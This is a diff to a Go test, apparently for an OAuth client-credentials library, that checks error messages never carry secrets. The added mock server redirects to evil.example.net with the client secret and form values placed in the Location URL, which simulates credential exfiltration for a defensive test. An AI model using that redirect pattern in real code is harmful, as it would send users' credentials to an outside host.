@@ -35,8 +35,8 @@ func TestErrors_NeverCarrySecrets(t *testing.T) {
 		status int
 		ct     string
 	}{{400, "application/json"}, {401, "text/html"}, {500, "text/html"}, {200, "application/json"}, {200, "text/html"}}
-	// Three sources per endpoint, then seven single failure cases.
-	errs := make([]error, 0, 3*len(endpoints)+7)
+	// Three sources per endpoint and per redirect, then seven single failure cases.
+	errs := make([]error, 0, 3*len(endpoints)+3+7)
 
 	echo := func(status int, contentType string) *tokenServer {
 		return newTokenServer(t, func(w http.ResponseWriter, _ *http.Request, form url.Values) {
@@ -52,8 +52,17 @@ func TestErrors_NeverCarrySecrets(t *testing.T) {
 			}
 		})
 	}
+	// A redirect whose Location carries the credentials it received.
+	redirect := newTokenServer(t, func(w http.ResponseWriter, _ *http.Request, form url.Values) {
+		w.Header().Set("Location", "https://"+url.QueryEscape(clientSecret)+"@evil.example.net/?"+form.Encode())
+		w.WriteHeader(http.StatusTemporaryRedirect)
+	})
+	servers := make([]*tokenServer, 0, len(endpoints)+1)
 	for _, c := range endpoints {
-		srv := echo(c.status, c.ct)
+		servers = append(servers, echo(c.status, c.ct))
+	}
+	servers = append(servers, redirect)
+	for _, srv := range servers {
 		ccg, err := ClientCredentials(ClientCredentialsConfig{TokenURL: srv.TokenURL(), ClientID: "cid",
 			ClientSecret: secretOf(clientSecret), SubjectType: "enterprise", SubjectID: "1", HTTPClient: srv.Client()})
 		require.NoError(t, err)
